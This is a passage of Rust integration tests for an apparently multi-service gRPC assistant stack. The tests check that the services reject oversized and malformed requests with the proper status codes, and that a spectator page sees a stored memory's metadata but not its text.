        judge,
        judge(z(3 * 1024 * 1024))
    )
    .unwrap_err();
    assert_eq!(flood.code(), Code::OutOfRange, "{flood:?}");
    assert!(flood.message().contains("limit") && !flood.message().contains("ZZZZ"));
    let verdicts = vaglio::ListVerdictsRequest {
        limit: 100_000,
        ..Default::default()
    };
    too_big(
        call!(
            s.channel("vaglio", owner),
            VaglioServiceClient,
            list_verdicts,
            verdicts
        ),
        "limit",
    );

    // Gateway: a message, a card's lines.
    let send = gateway::SendMessageRequest {
        principal: person("telegram", "1004"),
        text: z(20_000),
        ..Default::default()
    };
    too_big(
        call!(
            s.channel("gateway", planner_id),
            GatewayServiceClient,
            send_message,
            send
        ),
        "text",
    );
    let card = gateway::SendCardRequest {
        principal: person("telegram", "1004"),
        token: "t".into(),
        card: Some(approval::Card {
            lines: vec![z(2000)],
            ..Default::default()
        }),
    };
    too_big(
        call!(
            s.channel("gateway", planner_id),
            GatewayServiceClient,
            send_card,
            card
        ),
        "lines",
    );
    let card = gateway::SendCardRequest {
        principal: person("telegram", "1004"),
        token: "t".into(),
        card: Some(approval::Card {
            lines: vec!["May I?".into()],
            telegram_html: z(100_000),
            ..Default::default()
        }),
    };
    too_big(
        call!(
            s.channel("gateway", planner_id),
            GatewayServiceClient,
            send_card,
            card
        ),
        "card.telegram_html",
    );
    // Health and reflection decode 64 KiB, not tonic's 4 MiB.
    use tonic_health::pb::health_client::HealthClient;
    for service in ["policy", "vaglio", "approval", "planner", "gateway"] {
        let huge = call!(
            s.channel(service, owner),
            HealthClient,
            check,
            tonic_health::pb::HealthCheckRequest {
                service: z(1024 * 1024)
            }
        )
        .unwrap_err();
        assert_eq!(huge.code(), Code::OutOfRange, "{service}: {huge:?}");
    }
    s.up.interrupt().await;
}

/// A body that is not the RPC's message (a string field sent as a number): the caller's
/// mistake, INVALID_ARGUMENT, on every service.
#[tokio::test]
async fn an_undecodable_body_is_invalid_argument_not_internal() {
    #[derive(Clone, PartialEq, prost::Message)]
    struct WrongWireType {
        #[prost(uint64, tag = "3")]
        field_three: u64,
        #[prost(uint64, tag = "1")]
        field_one: u64,
    }
    let s = Stack::start().await;
    for (service, identity, path) in [
        (
            "planner",
            Identity::Owner,
            "/metnos.planner.v1.PlannerService/RunTurn",
        ),
        (
            "policy",
            Identity::Planner,
            "/metnos.policy.v1.PolicyService/Check",
        ),
        (
            "approval",
            Identity::Planner,
            "/metnos.approval.v1.ApprovalService/GetPending",
        ),
        (
            "vaglio",
            Identity::Planner,
            "/metnos.vaglio.v1.VaglioService/Judge",
        ),
        (
            "gateway",
            Identity::Planner,
            "/metnos.gateway.v1.GatewayService/SendMessage",
        ),
    ] {
        let mut grpc = tonic::client::Grpc::new(s.up.channel_as(service, identity));
        grpc.ready().await.unwrap();
        let codec = tonic_prost::ProstCodec::<WrongWireType, ()>::default();
        let body = WrongWireType {
            field_three: 7,
            field_one: 7,
        };
        let status = grpc
            .unary(tonic::Request::new(body), path.parse().unwrap(), codec)
            .await
            .unwrap_err();
        assert_eq!(status.code(), Code::InvalidArgument, "{path}: {status:?}");
        assert!(
            status.message().contains("not a valid message"),
            "{path}: {}",
            status.message()
        );
    }
    s.up.interrupt().await;
}

/// Issue 40: the spectator page's identity lists a person's memory as ids, dates and
/// sources, never the words; searching and forgetting are the owner's; the owner's
/// terminal sees the words.
#[tokio::test]
async fn the_page_sees_a_memory_s_sources_never_its_words() {
    let s = Stack::start().await;
    s.llm.push(Reply::ToolCalls(vec![(
        "memory_save".into(),
        json!({"text": "Locker code 4417"}),
    )]));
    s.llm.push(Reply::Text("Noted.".into()));
    let (code, _, err) = s
        .sandbox
        .run(&["ask", "--language", "en", "remember: locker code 4417"])
        .await;
    assert_eq!(code, 0, "{err}");
    let me = metnos::ask_cli::cli_principal();
    let list = planner::ListMemoriesRequest {
        principal: Some(me.clone()),
        limit: 0,
    };
    let page = s.up.channel_as("planner", Identity::Web);
    let seen = PlannerServiceClient::new(page.clone())
        .list_memories(list.clone())
        .await
        .unwrap()
        .into_inner();
    assert_eq!((seen.total, seen.entries.len()), (1, 1));
    assert_eq!(seen.entries[0].text, "", "never the words");
    assert!(seen.entries[0].id.starts_with("m-"));
    let owner = s.up.channel_as("planner", Identity::Owner);
    let whole = PlannerServiceClient::new(owner)
        .list_memories(list)
        .await
        .unwrap()
        .into_inner();
    assert_eq!(whole.entries[0].text, "Locker code 4417");
    let search = planner::SearchMemoriesRequest {
        principal: Some(me),
        query: "locker".into(),
        limit: 0,
    };
    not_for(
        call!(
            Channel::Traced(page),
            PlannerServiceClient,
            search_memories,
            search
        ),
        "SearchMemories as the page",
    );
}
